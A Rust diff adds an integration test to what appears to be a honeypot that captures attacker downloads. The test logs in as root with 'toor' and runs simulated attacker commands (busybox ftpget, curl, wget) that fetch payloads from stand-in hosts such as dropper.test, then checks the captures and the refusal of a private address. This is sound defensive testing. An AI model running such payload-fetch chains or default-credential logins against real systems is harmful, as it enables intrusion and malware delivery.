@@ -2,6 +2,7 @@
 //! with our web server), names from the static DNS map only, real tools in the box
 //! through the real OpenSSH client, payloads in the store, SSRF refused, limits held.
 
+mod ftp;
 pub(crate) mod internet;
 
 use std::net::{IpAddr, Ipv4Addr, TcpListener};
@@ -721,4 +722,92 @@ fn egress_fetch_busybox_tftp_get_is_captured_and_served_from_the_server() {
     let (requests, _) = internet.stats();
     let tftp: Vec<&String> = requests.iter().filter(|r| r.starts_with("tftp:")).collect();
     assert_eq!(tftp, ["tftp:bb.bin", "tftp:nothere.bin"], "{requests:?}");
+}
+
+#[test]
+fn egress_fetch_ftpget_is_captured_with_the_login_and_a_missing_file_fails() {
+    require_docker!();
+    let internet = TestInternet::start("ftp", &files());
+    let ftp = ftp::FtpServer::start(&internet, &files());
+    let hermes = Hermes::start(egress_options(&internet, EgressMode::Fetch));
+    let server = internet.server;
+    // The attacker's static busybox, piped in; `ftpget` with a login, then a file
+    // the server does not have, and a server at a LAN address; then curl (EPSV)
+    // and wget (PASV) by name.
+    let busybox = std::fs::read("/bin/busybox").expect("busybox (busybox-static) on the host");
+    let mut command = hermes.ssh("root", &["toor"], "password");
+    command.arg(format!(
+        "cat > /tmp/busybox && chmod +x /tmp/busybox && cd /tmp && \
+         /tmp/busybox ftpget -u bot -p s3cr3t {server} /tmp/f.bin bb.bin && echo ftp $(wc -c < /tmp/f.bin) $(sha256sum /tmp/f.bin | cut -c1-64); \
+         /tmp/busybox ftpget -u bot -p s3cr3t {server} /tmp/n.bin nothere.bin; echo missing rc=$?; \
+         /tmp/busybox ftpget lan.test /tmp/l.bin x.bin; echo lan rc=$?; \
+         curl -sS -o /tmp/c.bin ftp://cdn.test/py.bin && echo curl $(sha256sum /tmp/c.bin | cut -c1-64); \
+         wget -q -O /tmp/w.bin ftp://dropper.test/pub/wget.bin && echo wget $(sha256sum /tmp/w.bin | cut -c1-64)"
+    ));
+    let started = Instant::now();
+    let output = crate::harness::run_with_stdin(&mut command, &busybox);
+    let out = String::from_utf8_lossy(&output.stdout).into_owned()
+        + &String::from_utf8_lossy(&output.stderr);
+    eprintln!(
+        "ftpget, a missing file, curl and wget in {:?}",
+        started.elapsed()
+    );
+    let body = served("bb.bin");
+    assert!(
+        out.contains(&format!("ftp 7000 {}", sha256_hex(&body))),
+        "{out}"
+    );
+    assert!(out.contains("missing rc=1"), "{out}");
+    assert!(out.contains("lan rc=1"), "{out}");
+    assert!(
+        out.contains(&format!("curl {}", sha256_hex(&served("py.bin")))),
+        "{out}"
+    );
+    assert!(
+        out.contains(&format!("wget {}", sha256_hex(&served("wget.bin")))),
+        "{out}"
+    );
+    let event = assert_captured(&hermes, &format!("ftp://{server}/bb.bin"), &body);
+    assert_eq!(event["upstream"], format!("{server}:21"));
+    assert_eq!(event["ftp_user"], "bot");
+    assert_eq!(event["ftp_password"], "s3cr3t");
+    assert_captured(
+        &hermes,
+        &format!("ftp://{server}/py.bin"),
+        &served("py.bin"),
+    );
+    let wget = assert_captured(
+        &hermes,
+        &format!("ftp://{server}/pub/wget.bin"),
+        &served("wget.bin"),
+    );
+    assert_eq!(wget["ftp_user"], "anonymous");
+    let missing = format!("ftp://{server}/nothere.bin");
+    let events = hermes.wait_for_events("the missing file's failure", |events| {
+        !failures_of(events, &missing).is_empty()
+    });
+    let failure = &failures_of(&events, &missing)[0];
+    assert_eq!(failure["reason"], "ftp_error", "{failure}");
+    assert_eq!(failure["ftp_user"], "bot");
+    // A server at a private address is refused before a greeting, never contacted.
+    let lan = failures_of(&events, "ftp://10.1.2.3/");
+    assert_eq!(lan.len(), 1, "{events:?}");
+    assert_eq!(lan[0]["reason"], "private");
+    // Our server saw the box's login, from Hermes, and each file asked for once.
+    let log = ftp.log();
+    for expected in [
+        "USER bot",
+        "PASS s3cr3t",
+        "RETR /bb.bin",
+        "SIZE /nothere.bin",
+        "USER anonymous",
+    ] {
+        assert!(
+            log.iter().any(|line| line == expected),
+            "{expected}: {log:?}"
+        );
+    }
+    // The missing file's SIZE found it missing: its RETR was not sent again.
+    let retrieved = log.iter().filter(|line| line.starts_with("RETR")).count();
+    assert_eq!(retrieved, 3, "{log:?}");
 }
